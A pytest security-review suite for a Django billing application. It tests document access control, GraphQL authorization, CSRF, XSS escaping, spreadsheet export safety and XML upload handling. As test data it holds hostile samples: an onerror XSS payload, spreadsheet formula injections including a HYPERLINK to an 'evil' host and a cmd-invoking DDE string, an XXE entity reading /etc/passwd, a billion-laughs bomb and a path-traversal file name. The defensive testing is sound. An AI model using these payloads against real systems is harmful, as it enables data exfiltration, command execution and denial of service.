"""Security review of billing, round 2: the accountants' admin screens (accounts, the
ledger, statements, the unmatched queue, the situation centre's panel, exports), the
documents (the PDF download, what a PDF holds, where the files lie, the documents'
admin), the GraphQL fields for consents and documents, and the charge imports as they
stand. Rounds 1 are `test_billing_review.py` and `test_billing_review_ledger_admin.py`.

Real requests through the Django test client; nothing of ours is mocked. A test that fails
here is a finding (see the report); one marked xfail(strict) is a behaviour whose intent
the reviewer could not tell.
"""

from __future__ import annotations

import base64
import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from strawberry import relay

from operations.billing import services
from operations.billing.documents.links import document_download_url
from operations.billing.models import BankTransaction, BillingAccount, BillingConsent, BillingDocument, LedgerEntry
from operations.billing.policy import PERMISSIONS_ACCOUNTANT, PERMISSIONS_READ
from operations.residents import services as residents
from operations.residents.models import Membership
from operations.residents.roles import StaffRole
from tests.billing.kit import charge, grant, open_account, pay
from tests.factories import tickets as tf
from tests.factories.admin import staff_client
from tests.factories.residents import MembershipFactory, SuperUserFactory, UnitFactory, UserFactory

pytestmark = pytest.mark.django_db

Kind = BillingDocument.Kind
Role = Membership.Role
S = BankTransaction.State
D = Decimal
ISSUED_ON = date(2026, 3, 2)
COOPERATIVE = "PL74999000090000000000000001"


def gid(type_name: str, pk) -> str:
    return str(relay.GlobalID(type_name, str(pk)))


def signed_in(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def pdf_text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def world(cast, django_capture_on_commit_callbacks):
    """Unit A/1 (the reporter owns it, the co-resident is its tenant) and unit A/2 (the
    neighbour's), an account each in arrears, and a statement and a demand issued for each
    (their files written)."""
    home = open_account(cast.unit, payer_name="Anna Nowak", opened_on=date(2025, 12, 1), identifier=71001)
    other = open_account(cast.other_unit, payer_name="Piotr Sąsiad", opened_on=date(2025, 12, 1), identifier=71002)
    charge(home, "412.30", due=date(2026, 1, 12), title="Opłata eksploatacyjna 01/2026")
    pay(home, "100.00", on=date(2026, 2, 20), title="Przelew Anna Nowak")
    charge(other, "977.77", due=date(2026, 1, 12), title="Zaległość Sąsiada 01/2026")
    pay(other, "11.11", on=date(2026, 2, 21), title="Wpłata sekretna Sąsiada")
    documents = {}
    with django_capture_on_commit_callbacks(execute=True):
        for name, account in (("home", home), ("other", other)):
            documents[name, "demand"] = services.document_issue(
                account=account, kind=Kind.DEMAND, on=ISSUED_ON, process="tests"
            )
            documents[name, "statement"] = services.document_issue(
                account=account,
                kind=Kind.STATEMENT,
                on=ISSUED_ON,
                period_from=date(2026, 1, 1),
                period_to=date(2026, 2, 28),
                process="tests",
            )
    return home, other, documents


def _holding(unit, role=Role.OWNER, *, verified=True, **fields):
    user = UserFactory(**fields)
    MembershipFactory(user=user, unit=unit, role=role, verified=verified)
    return tf.fresh(user)


# --- 1. The PDF download, for every kind of viewer ------------------------------------------------


def _people(cast):
    """Everyone who must not read A/1's documents (the tenant only while the cooperative
    keeps tenants out), by name."""
    decider = SuperUserFactory(username="sec2-decider")
    pending = _holding(cast.unit, verified=False, username="sec2-pending")
    ended = _holding(cast.unit, username="sec2-ended")
    residents.membership_end(membership=Membership.objects.get(user=ended, unit=cast.unit), ended_by=decider)
    worker = grant(cast.firm_worker, "wagtailadmin.access_admin", *PERMISSIONS_ACCOUNTANT)
    return {
        "anonymous": None,
        "stranger (another building)": cast.stranger,
        "neighbour (same building)": cast.neighbour,
        "tenant": cast.co_resident,
        "pending co-owner": pending,
        "ended co-owner": tf.fresh(ended),
        "firm worker with accountant's permissions": worker,
        "dispatcher": cast.dispatcher,
        "administrator": cast.administrator,
        "editor": tf.staff("editor", username="sec2-editor"),
    }


def test_nobody_but_the_household_and_billing_staff_downloads_a_document(cast, world, settings):
    _home, _other, documents = world
    demand = documents["home", "demand"]
    missing = document_download_url(demand.pk + 10_000)
    for name, person in _people(cast).items():
        client = signed_in(person)
        response = client.get(document_download_url(demand))
        assert response.status_code == 404, (name, response.status_code)
        # The same answer as for a document that does not exist.
        assert client.get(missing).status_code == 404, name
    for name, person in {
        "owner": cast.reporter,
        "board": cast.board,
        "accountant": tf.staff("accountant", username="sec2-accountant"),
    }.items():
        response = signed_in(person).get(document_download_url(demand))
        assert response.status_code == 200, name
        assert response["Content-Type"] == "application/pdf"
        assert "private" in response["Cache-Control"]
    # The tenant once the cooperative lets tenants see the accounts, and only their own unit's.
    settings.BILLING_TENANTS_SEE_ACCOUNTS = True
    tenant = signed_in(cast.co_resident)
    assert tenant.get(document_download_url(demand)).status_code == 200
    assert tenant.get(document_download_url(documents["other", "demand"])).status_code == 404


def test_the_download_never_writes_and_refuses_other_methods(cast, world):
    _home, _other, documents = world
    owner = signed_in(cast.reporter)
    url = document_download_url(documents["home", "demand"])
    for method in ("post", "put", "delete", "patch"):
        assert getattr(owner, method)(url).status_code == 405, method
    assert owner.head(url).status_code == 200


def test_a_pdf_holds_its_own_account_only(world):
    """The statement and the demand of A/1 say nothing of A/2 (its payer, number, entries,
    amounts), and the other way round."""
    home, other, documents = world
    secrets = {
        "home": ["Anna Nowak", home.iban_formatted, "Opłata eksploatacyjna", "412,30"],
        "other": ["Piotr Sąsiad", other.iban_formatted, "Zaległość Sąsiada", "977,77", "Wpłata sekretna"],
    }
    for (owner, kind), document in documents.items():
        text = pdf_text(document.file.open("rb").read())
        foreign = "other" if owner == "home" else "home"
        for secret in secrets[foreign]:
            assert secret not in text, (owner, kind, secret)
        assert document.snapshot["account"]["id"] == document.account_id
        # The snapshot names no entry of another account.
        ids = {row.get("id") for row in document.snapshot.get("debts", [])}
        assert ids <= set(LedgerEntry.objects.filter(account=document.account).values_list("pk", flat=True))


def test_document_files_have_random_names_and_are_never_served_from_media(cast, world, settings):
    _home, _other, documents = world
    names = [document.file.name for document in documents.values()]
    for name in names:
        assert re.fullmatch(r"billing-documents/[0-9a-f]{32}\.pdf", name), name
    assert len(set(names)) == len(names)
    accountant = signed_in(tf.staff("accountant", username="sec2-media"))
    for name in names:
        for url in (f"{settings.MEDIA_URL}{name}", f"/media/{name}"):
            response = accountant.get(url)
            assert response.status_code == 404, (url, response.status_code)
            assert not body(response).startswith(b"%PDF")


def test_an_owner_change_hides_the_old_documents_from_the_new_owner_and_the_new_from_the_former(
    cast, world, django_capture_on_commit_callbacks
):
    home, _other, documents = world
    decider = SuperUserFactory(username="sec2-decider-change")
    former = cast.reporter
    change_on = date(2026, 4, 1)
    new_account = services.account_owner_change(account=home, payer_name="Nowy Właściciel", on=change_on)
    # The former owner moves out; the new owner is verified afterwards.
    residents.membership_end(membership=Membership.objects.get(user=former, unit=cast.unit), ended_by=decider)
    newcomer = _holding(cast.unit, username="sec2-newcomer")
    charge(new_account, "55.00", due=date(2026, 4, 10))
    with django_capture_on_commit_callbacks(execute=True):
        fresh_statement = services.document_issue(
            account=new_account,
            kind=Kind.STATEMENT,
            on=date(2026, 4, 30),
            period_from=date(2026, 4, 1),
            period_to=date(2026, 4, 30),
            process="tests",
        )
    newcomer_client = signed_in(newcomer)
    former_client = signed_in(tf.fresh(former))
    for old in (documents["home", "demand"], documents["home", "statement"]):
        assert newcomer_client.get(document_download_url(old)).status_code == 404
    assert newcomer_client.get(document_download_url(fresh_statement)).status_code == 200
    assert former_client.get(document_download_url(fresh_statement)).status_code == 404


def test_a_former_owner_still_on_the_unit_does_not_read_the_new_owners_account(
    cast, world, gql, django_capture_on_commit_callbacks
):
    home, _other, _documents = world
    # The former owner held the unit before the change (the world verifies everyone today).
    Membership.objects.live().filter(user=cast.reporter, unit=cast.unit).update(
        decided_at=timezone.make_aware(datetime(2026, 1, 5, 12))
    )
    new_account = services.account_owner_change(account=home, payer_name="Nowy Właściciel", on=date(2026, 4, 1))
    _holding(cast.unit, username="sec2-newcomer-2")
    charge(new_account, "55.00", due=date(2026, 4, 10), title="Opłata nowego właściciela")
    gql.logout()
    gql.login(cast.reporter)
    data = gql.data("query { viewer { billingAccounts { edges { node { id payerName } } } } }")
    ids = [edge["node"]["id"] for edge in data["viewer"]["billingAccounts"]["edges"]]
    assert gid("BillingAccount", new_account.pk) not in ids


# --- 2. The documents in GraphQL and the consents ---------------------------------------------------

DOCUMENTS = """
query($id: ID!) { billingAccount(id: $id) {
  id documents(first: 50) { totalCount edges { node { id number downloadUrl } } }
  consents { electronicDocuments }
  reminders(first: 5) { totalCount }
} }
"""

CONSENTS = """
mutation($id: ID!) { billingConsentsUpdate(input: {accountId: $id, electronicDocuments: true}) {
  account { id } consents { electronicDocuments } errors { code field message }
} }
"""


def _as(gql, user):
    gql.logout()
    if user is not None:
        gql.login(user)
    return gql


def test_documents_and_consents_through_graphql_per_viewer(cast, world, gql, settings):
    home, other, documents = world
    home_id = gid("BillingAccount", home.pk)
    missing_id = gid("BillingAccount", other.pk + 10_000)
    people = _people(cast)
    for name, person in people.items():
        client = _as(gql, person)
        result = client.execute(DOCUMENTS, {"id": home_id})
        assert result.get("data", {}).get("billingAccount") is None, (name, result)
        # Setting consents on someone else's account says "not found", as for no account.
        if person is not None:
            mine = client.execute(CONSENTS, {"id": home_id})["data"]["billingConsentsUpdate"]
            nothing = client.execute(CONSENTS, {"id": missing_id})["data"]["billingConsentsUpdate"]
            assert [e["code"] for e in mine["errors"]] == [e["code"] for e in nothing["errors"]], name
            assert mine["errors"][0]["message"] == nothing["errors"][0]["message"]
    assert not BillingConsent.objects.filter(account=home).exists()
    # The owner reads the household's documents only, and no reminders (staff's).
    owner = _as(gql, cast.reporter).data(DOCUMENTS, {"id": home_id})["billingAccount"]
    numbers = {edge["node"]["number"] for edge in owner["documents"]["edges"]}
    assert numbers == {documents["home", "demand"].number, documents["home", "statement"].number}
    assert owner["reminders"]["totalCount"] == 0
    # A document id of another household is not a way in either.
    assert _as(gql, cast.reporter).data(DOCUMENTS, {"id": gid("BillingAccount", other.pk)})["billingAccount"] is None
    # Staff see every account's documents but choose consents for nobody.
    accountant = _as(gql, tf.staff("accountant", username="sec2-gql-accountant"))
    assert accountant.data(DOCUMENTS, {"id": home_id})["billingAccount"]["documents"]["totalCount"] == 2
    refused = accountant.data(CONSENTS, {"id": home_id})["billingConsentsUpdate"]
    assert refused["errors"][0]["code"] == "FORBIDDEN"
    # The tenant, once tenants may see the account, chooses their own.
    settings.BILLING_TENANTS_SEE_ACCOUNTS = True
    tenant = _as(gql, cast.co_resident).data(CONSENTS, {"id": home_id})["billingConsentsUpdate"]
    assert tenant["errors"] == [] and tenant["consents"]["electronicDocuments"] is True
    assert list(BillingConsent.objects.filter(account=home).values_list("person_id", flat=True)) == [
        cast.co_resident.pk
    ]


def test_a_staff_list_never_shows_a_household_another_households_documents(cast, world, gql):
    """The batched documents of a page (`batching.windowed`) stay the viewer's: a resident who
    also lists `billingAccounts` (empty for them) and their own accounts gets their own."""
    home, other, documents = world
    query = """
    query { billingAccounts(first: 50) { totalCount edges { node { id documents { totalCount } } } }
            viewer { billingAccounts { edges { node { id documents { edges { node { number } } } } } } } }
    """
    data = _as(gql, cast.reporter).data(query)
    assert data["billingAccounts"]["totalCount"] == 0
    numbers = {
        edge["node"]["number"]
        for account in data["viewer"]["billingAccounts"]["edges"]
        for edge in account["node"]["documents"]["edges"]
    }
    assert numbers == {documents["home", "demand"].number, documents["home", "statement"].number}


# --- 3. The admin: CSRF, GET never writes, mass assignment ------------------------------------------


@pytest.fixture
def accountant_client(cast):
    return staff_client(StaffRole.ACCOUNTANT, username="sec2-csrf-accountant")


def _queue_line(client) -> BankTransaction:
    data = "\r\n".join(
        [
            ":20:MT940",
            f":25:/{COOPERATIVE}",
            ":28C:00077/001",
            ":60F:C260401PLN0,00",
            ":61:2604020402C100,00NTRFNONREF//T2604020000",
            ":86:020~00TRF~20wplata~27JAN NIEZNANSKI~3012401037~310000111122223333",
            ":62F:C260430PLN100,00",
            "-",
        ]
    ).encode()
    response = client.post("/admin/billing-statement-import/", {"file": SimpleUploadedFile("q.sta", data)})
    assert response.status_code == 200
    return BankTransaction.objects.get(state=S.UNMATCHED)


def test_admin_posts_need_the_csrf_token(cast, world, accountant_client):
    home, _other, documents = world
    line = _queue_line(accountant_client)
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(accountant_client.user)
    posts = {
        f"/admin/billing-queue/{line.pk}/confirm/": {"account": home.pk},
        f"/admin/billing-queue/{line.pk}/ignore/": {"confirm": "True"},
        "/admin/billing-documents/issue/": {"account": home.pk, "kind": "demand", "on": "2026-03-02"},
        f"/admin/billing-documents/{documents['home', 'demand'].pk}/send/": {},
        "/admin/billing-statement-import/": {"file": SimpleUploadedFile("x.sta", b":20:X")},
        "/admin/chargeimportbatch/upload/": {},
        "/admin/interestrate/new/": {"effective_from": "2031-01-01", "rate": "9", "reference_rate": "3", "note": ""},
    }
    entries = LedgerEntry.objects.count()
    docs = BillingDocument.objects.count()
    for url, data in posts.items():
        response = strict.post(url, data)
        assert response.status_code == 403, (url, response.status_code)
    line.refresh_from_db()
    assert line.state == S.UNMATCHED
    assert LedgerEntry.objects.count() == entries and BillingDocument.objects.count() == docs


def test_get_never_writes_in_the_billing_admin(cast, world, accountant_client):
    home, _other, documents = world
    line = _queue_line(accountant_client)
    for url in (
        f"/admin/billing-queue/{line.pk}/confirm/?account={home.pk}",
        f"/admin/billing-queue/{line.pk}/ignore/?confirm=True",
        f"/admin/billing-documents/{documents['home', 'demand'].pk}/send/",
    ):
        assert accountant_client.get(url).status_code == 405, url
    issue = accountant_client.get(f"/admin/billing-documents/issue/?account={home.pk}&kind=demand&on=2026-03-02")
    assert issue.status_code == 200
    line.refresh_from_db()
    assert line.state == S.UNMATCHED and line.payment_id is None
    assert BillingDocument.objects.count() == 4


def test_the_queue_settles_only_with_billing_staffs_reading_right(cast, world, accountant_client):
    """Posting another account's id to the queue's confirm form: a person who may import
    statements and post entries but not read accounts gets "not found", nothing posted."""
    home, other, _documents = world
    line = _queue_line(accountant_client)
    half = grant(
        UserFactory(username="sec2-half"),
        "wagtailadmin.access_admin",
        "billing.import_bankstatement",
        "billing.post_ledgerentry",
    )
    client = signed_in(half)
    response = client.post(f"/admin/billing-queue/{line.pk}/confirm/", {"account": other.pk})
    assert response.status_code == 200
    assert "Piotr Sąsiad" not in response.content.decode()
    line.refresh_from_db()
    assert line.state == S.UNMATCHED and line.payment_id is None
    # The search finds nothing for them either.
    page = client.get(f"/admin/billing-queue/{line.pk}/?q=Sąsiad").content.decode()
    assert "Piotr Sąsiad" not in page and other.iban_formatted not in page


def test_the_document_issue_form_takes_no_account_but_a_real_one(cast, world, accountant_client):
    count = BillingDocument.objects.count()
    for account in ("999999", "-1", "abc", "1e3", str(2**70)):
        response = accountant_client.post(
            "/admin/billing-documents/issue/", {"account": account, "kind": "demand", "on": "2026-03-02"}
        )
        assert response.status_code == 200, (account, response.status_code)
        assert response.context["form"].errors.get("account"), account
    assert BillingDocument.objects.count() == count


def test_no_url_of_the_billing_admin_adds_or_edits_what_is_read_only(cast, world, accountant_client):
    """Wagtail's add view is `new/` (round 1 posted to `add/`, which is no URL at all)."""
    home, _other, _documents = world
    entries, accounts = LedgerEntry.objects.count(), BillingAccount.objects.count()
    for url in (
        "/admin/ledgerentry/new/",
        "/admin/billingaccount/new/",
        "/admin/bankstatement/new/",
        "/admin/banktransaction/new/",
        "/admin/chargeimportbatch/new/",
        f"/admin/billingaccount/edit/{home.pk}/",
        f"/admin/billingaccount/history/{home.pk}/",
        f"/admin/billingaccount/usage/{home.pk}/",
        f"/admin/billingaccount/copy/{home.pk}/",
    ):
        response = accountant_client.post(url, {"payer_name": "Ktoś", "amount": "1.00", "unit": home.unit_id})
        assert response.status_code in (403, 404, 405), (url, response.status_code)
    assert LedgerEntry.objects.count() == entries and BillingAccount.objects.count() == accounts
    # The rates are the accountant's to add (not the board's).
    form = {"effective_from": "2031-01-01", "rate": "9.00", "reference_rate": "3.50", "note": "sec2"}
    assert signed_in(cast.board).post("/admin/interestrate/new/", form).status_code in (302, 403)
    assert accountant_client.post("/admin/interestrate/new/", form).status_code == 302


def test_a_payers_name_is_text_in_every_admin_page_and_message(cast, accountant_client):
    evil = open_account(
        UnitFactory(building=cast.other_building, number="66"),
        payer_name='<img src=x onerror="alert(1)">Zły',
        identifier=71066,
    )
    charge(evil, "10.00", due=date(2026, 1, 10))
    line = _queue_line(accountant_client)
    response = accountant_client.post(f"/admin/billing-queue/{line.pk}/confirm/", {"account": evil.pk}, follow=True)
    assert response.status_code == 200
    pages = [
        response,
        accountant_client.get("/admin/billingaccount/"),
        accountant_client.get(f"/admin/billingaccount/inspect/{evil.pk}/"),
        accountant_client.get(f"/admin/bankstatement/inspect/{line.statement_id}/"),
        accountant_client.get("/admin/banktransaction/"),
        accountant_client.get(f"/admin/billing-queue/{line.pk}/?q=Zły"),
        accountant_client.get("/admin/billing-documents/issue/"),
    ]
    for page in pages:
        text = page.content.decode()
        assert '<img src=x onerror="alert(1)">' not in text, page.request["PATH_INFO"]
    assert "Zły" in pages[0].content.decode()


# --- 4. Odd ids and filters are answers, never 500s ---------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/admin/banktransaction/?billing_account=1e30",
        "/admin/banktransaction/?billing_account=99999999999999999999999",
        "/admin/banktransaction/?statement=99999999999999999999999",
        "/admin/banktransaction/?billing_account=-1.5",
        "/admin/billingaccount/?overdue_above=1e400",
        "/admin/billingaccount/?balance_below=NaN",
        "/admin/billingaccount/?building=99999999999999999999999",
        "/admin/billingaccount/inspect/99999999999999999999999/",
        "/admin/bankstatement/inspect/99999999999999999999999/",
        "/admin/billing-queue/99999999999999999999999/",
        "/admin/billing-documents/?p=99999999999999999999999&kind=x",
        "/billing/documents/99999999999999999999999/pdf/",
    ],
)
def test_odd_ids_and_filters_are_not_server_errors(cast, accountant_client, url):
    response = accountant_client.get(url)
    assert response.status_code in (200, 400, 404), (url, response.status_code)


def test_a_huge_account_id_in_the_queue_confirm_is_not_a_server_error(cast, world, accountant_client):
    line = _queue_line(accountant_client)
    response = accountant_client.post(f"/admin/billing-queue/{line.pk}/confirm/", {"account": str(10**25)})
    assert response.status_code in (200, 400, 404), response.status_code
    line.refresh_from_db()
    assert line.state == S.UNMATCHED


# --- 5. Existence is never told to those who may not read ------------------------------------------


def test_admin_urls_answer_alike_for_existing_and_missing_billing_objects(cast, world, accountant_client):
    home, _other, documents = world
    line = _queue_line(accountant_client)
    entry = home.entries.first()
    pairs = [
        (f"/admin/billingaccount/inspect/{home.pk}/", f"/admin/billingaccount/inspect/{home.pk + 9999}/"),
        (f"/admin/ledgerentry/inspect/{entry.pk}/", f"/admin/ledgerentry/inspect/{entry.pk + 9999}/"),
        (
            f"/admin/bankstatement/inspect/{line.statement_id}/",
            f"/admin/bankstatement/inspect/{line.statement_id + 9999}/",
        ),
        (f"/admin/banktransaction/inspect/{line.pk}/", f"/admin/banktransaction/inspect/{line.pk + 9999}/"),
        (f"/admin/billing-queue/{line.pk}/", f"/admin/billing-queue/{line.pk + 9999}/"),
    ]
    told = []
    for name, person in _people(cast).items():
        if person is None:
            continue
        client = signed_in(person)
        for existing, missing in pairs:
            one, two = client.get(existing), client.get(missing)
            assert one.status_code in (302, 403, 404), (name, existing, one.status_code)
            assert "Anna Nowak" not in one.content.decode(), (name, existing)
            if one.status_code != two.status_code:
                told.append((name, existing.split("/")[2], one.status_code, two.status_code))
        send = client.post(f"/admin/billing-documents/{documents['home', 'demand'].pk}/send/")
        assert send.status_code in (302, 403, 404), (name, send.status_code)
    assert BillingDocument.objects.get(pk=documents["home", "demand"].pk).sent_at is None
    # Review: the ledger's and the bank lines' inspect views (Wagtail's own `get_object`,
    # before the permission check) answer 404 for a missing id and a redirect for an
    # existing one, to anyone with admin access: a dispatcher counts the ledger's entries.
    assert told == []


# --- 6. Exports: formulas, and amounts as numbers ---------------------------------------------------


@pytest.fixture
def hostile(cast):
    """Accounts whose payer names a spreadsheet would run as formulas, one in arrears."""
    names = ['=HYPERLINK("http://evil/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "\t=1+1"]
    accounts = []
    for n, name in enumerate(names):
        unit = UnitFactory(building=cast.other_building, number=f"9{n}")
        account = open_account(unit, payer_name=name, identifier=72000 + n)
        charge(account, "500.00", due=date(2026, 1, 10))
        accounts.append(account)
    return accounts


def _csv_rows(client) -> list[list[str]]:
    response = client.get("/admin/billingaccount/?export=csv")
    assert response.status_code == 200
    text = body(response).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_accounts_csv_runs_no_formula(cast, hostile, accountant_client):
    rows = _csv_rows(accountant_client)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
        # The payer's name cell (after building and unit) never starts a formula, even "-2+3".
        assert not row[2].startswith("-"), row


def test_the_accounts_xlsx_runs_no_formula(cast, hostile, accountant_client):
    from openpyxl import load_workbook

    response = accountant_client.get("/admin/billingaccount/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_arrears_in_the_accounts_csv_are_numbers_a_spreadsheet_sums(cast, hostile, accountant_client):
    """Balances below zero (arrears, the figure accountants sum) come out as "'-500,00": the
    formula guard prefixes the minus of every negative amount, and Excel shows the quote and
    reads text. The amount columns need no guard: they are our numbers, not typed text."""
    rows = _csv_rows(accountant_client)
    header = rows[0]
    balance = header.index("Saldo (zł)") if "Saldo (zł)" in header else 7
    negatives = [row[balance] for row in rows[1:] if "500" in row[balance]]
    assert negatives, rows
    for value in negatives:
        assert re.fullmatch(r"-\d+,\d{2}", value), value


# --- 7. Query counts that do not grow with the data ----------------------------------------------------


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        if response.streaming:
            b"".join(response.streaming_content)
    return len(captured.captured_queries)


def _more_accounts(cast, count, start, django_capture_on_commit_callbacks):
    for n in range(count):
        unit = UnitFactory(building=cast.other_building, number=f"{start + n}")
        account = open_account(unit, payer_name=f"Płatnik {start + n}", identifier=73000 + start + n)
        first = charge(account, "100.00", due=date(2026, 1, 10))
        pay(account, "30.00", on=date(2026, 1, 20))
        charge(account, "100.00", due=date(2026, 2, 10))
        services.entry_post(
            account=account,
            kind=LedgerEntry.Kind.CORRECTION,
            amount=D("-10.00"),
            booking_date=date(2026, 2, 1),
            corrects=first,
            process="tests",
        )
        with django_capture_on_commit_callbacks(execute=True):
            services.document_issue(account=account, kind=Kind.DEMAND, on=ISSUED_ON, process="tests")


def test_the_billing_admins_lists_cost_the_same_for_few_rows_as_for_many(
    cast, world, accountant_client, django_capture_on_commit_callbacks
):
    home, _other, _documents = world
    urls = [
        "/admin/billingaccount/",
        "/admin/billingaccount/?export=csv",
        "/admin/billingaccount/?export=xlsx",
        "/admin/billingaccount/?overdue_above=0",
        "/admin/ledgerentry/",
        "/admin/billing-documents/",
        "/admin/",
    ]
    _more_accounts(cast, 2, 100, django_capture_on_commit_callbacks)
    few = {url: _queries(accountant_client, url) for url in urls}
    _more_accounts(cast, 8, 200, django_capture_on_commit_callbacks)
    many = {url: _queries(accountant_client, url) for url in urls}
    assert many == few


def test_an_accounts_page_costs_the_same_for_few_entries_as_for_many(cast, world, accountant_client):
    home, _other, _documents = world
    url = f"/admin/billingaccount/inspect/{home.pk}/"
    few = _queries(accountant_client, url)
    for month in range(3, 12):
        debt = charge(home, "10.00", due=date(2026, month, 10))
        pay(home, "5.00", on=date(2026, month, 12))
        services.entry_post(
            account=home,
            kind=LedgerEntry.Kind.CORRECTION,
            amount=D("-1.00"),
            booking_date=date(2026, month, 13),
            corrects=debt,
            process="tests",
        )
    assert _queries(accountant_client, url) == few


# --- 8. The situation centre's panel --------------------------------------------------------------------


def test_the_situation_panel_shows_billing_only_to_billing_staff_and_links_to_what_they_open(cast, world):
    home, _other, _documents = world
    worker = grant(cast.firm_worker, "wagtailadmin.access_admin", *PERMISSIONS_ACCOUNTANT)
    for name, person in {"dispatcher": cast.dispatcher, "editor": tf.staff("editor", username="sec2-ed2"),
                         "worker": worker}.items():  # fmt: skip
        page = signed_in(person).get("/admin/")
        text = page.content.decode()
        assert "/admin/billingaccount/?overdue_above=0" not in text, name
        assert "/admin/billing-queue/" not in text, name
    for name, person in {
        "board": cast.board,
        "accountant": tf.staff("accountant", username="sec2-panel"),
        "reader": grant(UserFactory(username="sec2-reader"), "wagtailadmin.access_admin", *PERMISSIONS_READ),
    }.items():
        client = signed_in(person)
        text = client.get("/admin/").content.decode()
        links = set(re.findall(r'href="(/admin/(?:billing[^"]*|bank[^"]*))"', text))
        for link in links:
            target = client.get(link.replace("&amp;", "&"))
            assert target.status_code == 200, (name, link, target.status_code)


# --- 9. Statement uploads through the screen: XML attacks, size ------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>
<Ntry><AddtlNtryInf>&xxe;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>"""


def _laughs(levels: int = 9) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1)]
    namespace = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"
    return (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]>'
        f'<Document xmlns="{namespace}">&lol{levels};</Document>'
    ).encode()


LAUGHS = _laughs()
DEEP = (
    b'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">'
    + b"<a>" * 200_000
    + b"</a>" * 200_000
    + b"</Document>"
)


@pytest.mark.parametrize("data", [XXE, LAUGHS, DEEP], ids=["xxe", "billion-laughs", "deep-nesting"])
def test_hostile_camt_through_the_screen_is_a_message(cast, accountant_client, data):
    response = accountant_client.post(
        "/admin/billing-statement-import/", {"file": SimpleUploadedFile("s.xml", data), "profile": ""}
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "root:" not in text
    assert response.context["form"].errors
    assert not BankTransaction.objects.exists()


def test_a_statement_over_the_limit_is_refused_before_it_is_read(cast, accountant_client, settings):
    from operations.billing.admin.forms import MAX_STATEMENT_BYTES

    data = b"<" + b" " * (MAX_STATEMENT_BYTES + 10)
    response = accountant_client.post(
        "/admin/billing-statement-import/", {"file": SimpleUploadedFile("big.xml", data), "profile": ""}
    )
    assert response.status_code == 200
    assert response.context["form"].errors.get("file")


# --- 10. Charge imports as they stand ------------------------------------------------------------------


def test_charge_import_screens_refuse_everyone_but_importers(cast, world):
    worker = grant(cast.firm_worker, "wagtailadmin.access_admin", *PERMISSIONS_ACCOUNTANT)
    for name, person in {
        "board": cast.board,
        "dispatcher": cast.dispatcher,
        "worker": worker,
        "reader": grant(UserFactory(username="sec2-reader-2"), "wagtailadmin.access_admin", *PERMISSIONS_READ),
    }.items():
        client = signed_in(person)
        for url in ("/admin/chargeimportbatch/upload/", "/admin/chargeimportprofile/new/"):
            response = client.get(url)
            assert response.status_code in (302, 403), (name, url, response.status_code)
        response = client.post("/admin/chargeimportbatch/upload/", {})
        assert response.status_code in (302, 403), (name, response.status_code)


def test_charge_import_files_get_random_names(cast):
    from operations.billing.models import charge_import_file_name

    names = {charge_import_file_name(None, "Naliczenia ../../etc/passwd 2026.xlsx") for _ in range(5)}
    assert len(names) == 5
    for name in names:
        assert re.fullmatch(r"billing-imports/[0-9a-f]{32}\.xlsx", name), name


# --- 11. Forged cursors on an account's nested lists ---------------------------------------------------


@pytest.mark.parametrize(
    "cursor",
    ["arrayconnection:-50", "arrayconnection:99999999999999999999999", "arrayconnection:1e9", "connection:0", "x"],
)
def test_forged_cursors_on_nested_lists_are_refused_or_harmless(cast, world, gql, cursor):
    home, other, _documents = world
    after = base64.b64encode(cursor.encode()).decode()
    query = """
    query($after: String) { viewer { billingAccounts { edges { node {
      entries(first: 5, after: $after) { totalCount edges { node { title amount } } }
      documents(first: 5, after: $after) { edges { node { number } } }
    } } } } }
    """
    result = _as(gql, cast.reporter).execute(query, {"after": after})
    text = str(result)
    assert "Sąsiad" not in text and "977.77" not in text and "11.11" not in text
    for error in result.get("errors") or []:
        assert "Internal" not in error.get("message", ""), error
        assert (error.get("extensions") or {}).get("code") != "INTERNAL_SERVER_ERROR", error


def test_a_named_accounts_documents_are_its_members_only(cast, world, django_capture_on_commit_callbacks):
    """A co-owner of the unit who is not named on a NAMED account does not download its
    documents (the selector the API uses is the download's too)."""
    _home, _other, _documents = world
    unit = UnitFactory(building=cast.building, number="31")
    named = _holding(unit, username="sec2-named")
    co_owner = _holding(unit, username="sec2-co-owner")
    account = open_account(unit, payer_name="Konto Imienne", identifier=71031, members=[named])
    charge(account, "100.00", due=date(2026, 1, 12))
    with django_capture_on_commit_callbacks(execute=True):
        demand = services.document_issue(account=account, kind=Kind.DEMAND, on=ISSUED_ON, process="tests")
    assert signed_in(named).get(document_download_url(demand)).status_code == 200
    assert signed_in(co_owner).get(document_download_url(demand)).status_code == 404


# --- 12. The consents' mutation: CSRF for the portal's session, never through GET --------------------


